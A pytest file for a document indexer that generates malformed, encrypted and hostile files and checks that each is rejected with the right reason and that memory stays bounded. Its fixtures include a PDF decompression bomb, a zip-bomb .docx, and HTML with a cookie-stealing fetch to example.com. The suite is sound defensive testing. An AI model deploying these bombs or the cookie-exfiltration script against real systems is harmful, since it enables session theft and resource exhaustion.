"""Hostile and broken files: each one is reported with its reason, memory and time stay
bounded, and the good files beside them are indexed.

The corpus is generated here (except the real hard cases in ``data/hard-cases``, which
come from the shared court filings: ``broken-mime.pdf`` has a malformed header,
``empty.pdf`` is 0 bytes, ``near-empty-text-layer.pdf`` is ``ocr_pdf_variation.pdf``
and ``almost-no-text.pdf`` is ``recap_documents_ca4_17.pdf``). Indexing runs in a
subprocess, so that its peak memory can be measured on its own.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pypdf
import pytest
from conftest import DATA, HARD_CASES
from pdfs import serialize, text, write_pdf

from rag.config import Config
from rag.errors import DocumentError
from rag.load.document import load_document
from rag.load.limits import Limits
from rag.store.database import Store
from rag.store.manifest import read_manifest
from rag.store.workspace import workspace_dir

ROOT = Path(__file__).resolve().parent.parent
PROBE = Path(__file__).resolve().parent / "index_probe.py"
MB = 1 << 20
PEAK_RSS_LIMIT_MB = 2048
PER_FILE_LIMIT_S = 120
# prctl(2) and capabilities(7): root reads and searches any file through these two.
PR_CAPBSET_DROP = 24
CAP_DAC_OVERRIDE = 1
CAP_DAC_READ_SEARCH = 2

# file name -> a piece of the reason it must be reported with
EXPECTED_FAILURES = {
    "truncated-head.pdf": "not a readable PDF: the file is damaged or incomplete",
    "truncated-tail.pdf": "not a readable PDF: the file is damaged or incomplete",
    "encrypted-locked.pdf": "password-protected",
    "bomb.pdf": "decompresses to more than 32 MB",
    "blank-pages.pdf": "all 3000 pages of the PDF are empty",
    "zero.txt": "empty (0 bytes)",
    "random.txt": "binary data",
    "huge.txt": "over the 100 MB limit",
    "one-line.txt": "more than 10,000,000 characters",
    "loop-a.txt": "Too many levels of symbolic links",
    "loop-b.txt": "Too many levels of symbolic links",
    "unreadable.txt": "permission denied",
    "pipe.txt": "not a regular file",
    "junk.docx": "not a valid Word (.docx) document",
    "zip-bomb.docx": "unpacks to 300 MB",
    "all-script.html": "contains no text",
    "empty.pdf": "empty (0 bytes)",
    "caf\\xe9.txt": "not valid UTF-8",
}
EXPECTED_INDEXED = {
    "bad-xref.pdf",
    "encrypted-open.pdf",
    "invalid-utf8.txt",
    "script.html",
    "long-line.txt",
    "broken-mime.pdf",
    "notes.md",
    "discharge-summary.pdf",
    "covid_1545.txt",
    # Scans, read by OCR: a scanned filing, a scanned form with only its filing stamp in the
    # text layer, and a page that holds only a stamp and one word.
    "scanned.pdf",
    "almost-no-text.pdf",
    "near-empty-text-layer.pdf",
}
# Indexed, with a warning that says what was wrong.
EXPECTED_WARNINGS = {
    "bad-xref.pdf": "the file is damaged",
    "broken-mime.pdf": "the file is damaged",
}


def build_corpus(folder: Path) -> None:
    folder.mkdir()
    good = DATA / "mutual-nda.pdf"
    # Truncated PDFs: the start only, and everything but the cross-reference table.
    (folder / "truncated-head.pdf").write_bytes(good.read_bytes()[:700])
    (folder / "truncated-tail.pdf").write_bytes(good.read_bytes()[:-400])
    # A PDF whose cross-reference table points at the wrong offsets.
    valid = write_pdf(folder / "bad-xref.pdf", [text(72, 700, "Cross references are wrong.")])
    data = valid.read_bytes()
    xref = data.index(b"\nxref\n")
    valid.write_bytes(data[:xref] + data[xref:].replace(b" 00000 n", b"7 00000 n"))
    encrypt(good, folder / "encrypted-open.pdf", password="")
    encrypt(good, folder / "encrypted-locked.pdf", password="s3cret")
    write_bomb(folder / "bomb.pdf", inflated_bytes=1 << 30)
    write_pdf(folder / "blank-pages.pdf", [None] * 3000)
    (folder / "zero.txt").write_bytes(b"")
    (folder / "random.txt").write_bytes(os.urandom(64 * 1024))
    with open(folder / "huge.txt", "wb") as handle:
        block = b"All work and no play makes a dull afternoon of indexing.\n" * (MB // 57)
        for _ in range(200 * MB // len(block) + 1):
            handle.write(block)
    with open(folder / "one-line.txt", "wb") as handle:
        for _ in range(50):
            handle.write(b"word " * (MB // 5))
    (folder / "long-line.txt").write_bytes(b"unpunctuated words without any end " * 600)
    (folder / "invalid-utf8.txt").write_bytes(
        b"Potassium chloride 20 mmol given at 08:00; recheck at 14:00. " * 20
        + b"\xff\xfe\xc3\x28 stray bytes \xa0\xa1 here."
    )
    (folder / os.fsdecode(b"caf\xe9.txt")).write_text("A file name that is not UTF-8.")
    (folder / "loop-a.txt").symlink_to(folder / "loop-b.txt")
    (folder / "loop-b.txt").symlink_to(folder / "loop-a.txt")
    unreadable = folder / "unreadable.txt"
    unreadable.write_text("Nobody may read this.")
    unreadable.chmod(0)
    os.mkfifo(folder / "pipe.txt")
    with zipfile.ZipFile(folder / "junk.docx", "w") as package:
        package.writestr("junk.bin", os.urandom(4096))
    with zipfile.ZipFile(
        folder / "zip-bomb.docx", "w", zipfile.ZIP_DEFLATED, compresslevel=1
    ) as package:
        package.writestr("word/document.xml", b"\0" * (300 * MB))
    (folder / "script.html").write_text(
        "<html><head><script>alert('head')</script></head><body>"
        + "<script>document.location='javascript:steal()'</script>" * 500
        + "<p>Visiting hours end at 8 pm on the cardiac ward.</p>"
        + "<script>fetch('https://example.com/'+document.cookie)</script></body></html>"
    )
    (folder / "all-script.html").write_text("<script>while(true){}</script>" * 1000)
    for name in ("broken-mime.pdf", "empty.pdf", "near-empty-text-layer.pdf", "almost-no-text.pdf"):
        shutil.copy(HARD_CASES / name, folder / name)
    for name in ("scanned.pdf", "notes.md", "discharge-summary.pdf", "covid_1545.txt"):
        shutil.copy(DATA / name, folder / name)


def encrypt(source: Path, target: Path, *, password: str) -> None:
    writer = pypdf.PdfWriter(clone_from=source)
    writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
    writer.write(target)


def write_bomb(path: Path, *, inflated_bytes: int) -> None:
    """A one-page PDF whose content stream is small on disk and ``inflated_bytes`` inflated.

    One block is deflated once and its bytes repeated: after a full flush, a deflate
    block refers to nothing before it, so the copies form a valid zlib stream.
    """
    block = b"BT /F1 12 Tf 72 700 Td (boom) Tj ET\n" * (MB // 36)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    count = inflated_bytes // len(block)
    checksum = 1
    for _ in range(count):
        checksum = zlib.adler32(block, checksum)
    stream = b"\x78\xda" + deflated * count + packer.flush() + checksum.to_bytes(4, "big")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
    ]
    path.write_bytes(serialize(objects))


def unprivileged() -> Callable[[], None] | None:
    """What a child runs before its program so that file permissions apply to it, even to
    root: nothing for another user; for root, the two capabilities by which it reads and
    searches any file are dropped from its bounding set, so the program runs without them
    (what ``setpriv --bounding-set=-dac_override,-dac_read_search`` does, without needing
    setpriv). Dropping needs CAP_SETPCAP, which root has unless a container took it."""
    if os.geteuid() != 0:
        return None
    prctl = ctypes.CDLL(None, use_errno=True).prctl

    def drop() -> None:
        for capability in (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH):
            if prctl(PR_CAPBSET_DROP, capability, 0, 0, 0) != 0:
                raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP) failed")

    return drop


def test_file_modes_apply_to_the_probe_even_as_root_without_setpriv(tmp_path, monkeypatch):
    """Issue 17, finding 10: the probe skipped as root where setpriv was missing."""
    monkeypatch.setenv("PATH", "")  # nothing to lean on: no setpriv, no other tool
    secret = tmp_path / "secret.txt"
    secret.write_text("Nobody may read this.")
    secret.chmod(0)
    done = subprocess.run(
        [sys.executable, "-c", f"open({str(secret)!r}).read()"],
        preexec_fn=unprivileged(),
        capture_output=True,
        text=True,
    )
    assert done.returncode != 0 and "Permission denied" in done.stderr, done.stderr


@pytest.fixture(scope="module")
def probe(tmp_path_factory, models_home: Path, embedder) -> dict:
    base = tmp_path_factory.mktemp("hostile")
    # The embedding graph is built at install time (hushdoc prepare), not while indexing:
    # the probe uses the session's built one, so its peak RSS is indexing's own.
    (base / "home").mkdir()
    (base / "home" / "models").symlink_to(models_home / "models", target_is_directory=True)
    corpus = base / "corpus"
    build_corpus(corpus)
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    try:
        done = subprocess.run(
            [sys.executable, str(PROBE), str(base / "home"), "hostile", str(corpus)],
            preexec_fn=unprivileged(),
            env=env,
            capture_output=True,
            text=True,
            timeout=600,
        )
    finally:
        (corpus / "huge.txt").unlink()
        (corpus / "one-line.txt").unlink()
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout.splitlines()[-1])
    result["home"] = str(base / "home")
    files, previous = result["files"], result["models_mb"]
    for entry in files:
        entry["rss_growth_mb"], previous = entry["rss_mb"] - previous, entry["rss_mb"]
    growth = sorted(files, key=lambda f: -f["rss_growth_mb"])[:3]
    slowest = max(files, key=lambda f: f["seconds"])
    print(
        f"\npeak RSS {max(f['rss_mb'] for f in files):.0f} MB, {result['models_mb']:.0f} MB of "
        "it before the first file; most growth: "
        + ", ".join(f"{Path(f['path']).name} +{f['rss_growth_mb']:.0f} MB" for f in growth)
        + f"; slowest: {Path(slowest['path']).name} {slowest['seconds']:.1f} s"
    )
    return result


def by_name(failures: list[dict]) -> dict[str, str]:
    return {Path(f["path"]).name: f["error"] for f in failures}


@pytest.mark.slow
def test_every_hostile_file_is_reported_with_its_reason(probe):
    report = probe["report"]
    failed = by_name(report["failed"])
    assert set(failed) == set(EXPECTED_FAILURES), failed
    for name, reason in EXPECTED_FAILURES.items():
        assert reason in failed[name], (name, failed[name])
    warnings = by_name(report["warnings"])
    for name, warning in EXPECTED_WARNINGS.items():
        assert warning in warnings[name], (name, warnings.get(name))
    assert report["indexed"] == len(EXPECTED_INDEXED)
    assert probe["ok"], "the store must be consistent after the run"


@pytest.mark.slow
def test_memory_and_time_stay_bounded(probe):
    files = probe["files"]
    assert len(files) == len(EXPECTED_FAILURES) + len(EXPECTED_INDEXED)
    assert max(f["rss_mb"] for f in files) < PEAK_RSS_LIMIT_MB
    assert max(f["seconds"] for f in files) < PER_FILE_LIMIT_S


@pytest.mark.slow
def test_the_good_files_are_searchable(probe):
    folder = workspace_dir(Config(data_dir=Path(probe["home"])), "hostile")
    store = Store.open(folder, expected=read_manifest(folder))
    try:
        indexed = {Path(d.path).name for d in store.documents() if d.status == "indexed"}
        assert indexed == EXPECTED_INDEXED
        hits = store.keyword_search("visiting hours cardiac ward", 3)
        assert hits and "8 pm" in store.passages([hits[0][0]])[hits[0][0]].text
        assert store.keyword_search("alert steal fetch cookie", 5) == []
        assert store.keyword_search("Oregon", 5), "the encrypted PDF with no password is indexed"
    finally:
        store.close()


def test_limits_come_from_the_settings(tmp_path):
    pages = write_pdf(tmp_path / "pages.pdf", [text(72, 700, f"Page {n} text.") for n in range(12)])
    limits = Limits.from_config(Config(max_pdf_pages=10, max_text_chars=10_000))
    with pytest.raises(DocumentError, match="12 pages, over the limit of 10; raise max_pdf_pages"):
        load_document(pages, limits=limits)
    wordy = tmp_path / "wordy.txt"
    wordy.write_text("word " * 3000)
    with pytest.raises(DocumentError, match="more than 10,000 characters"):
        load_document(wordy, limits=limits)
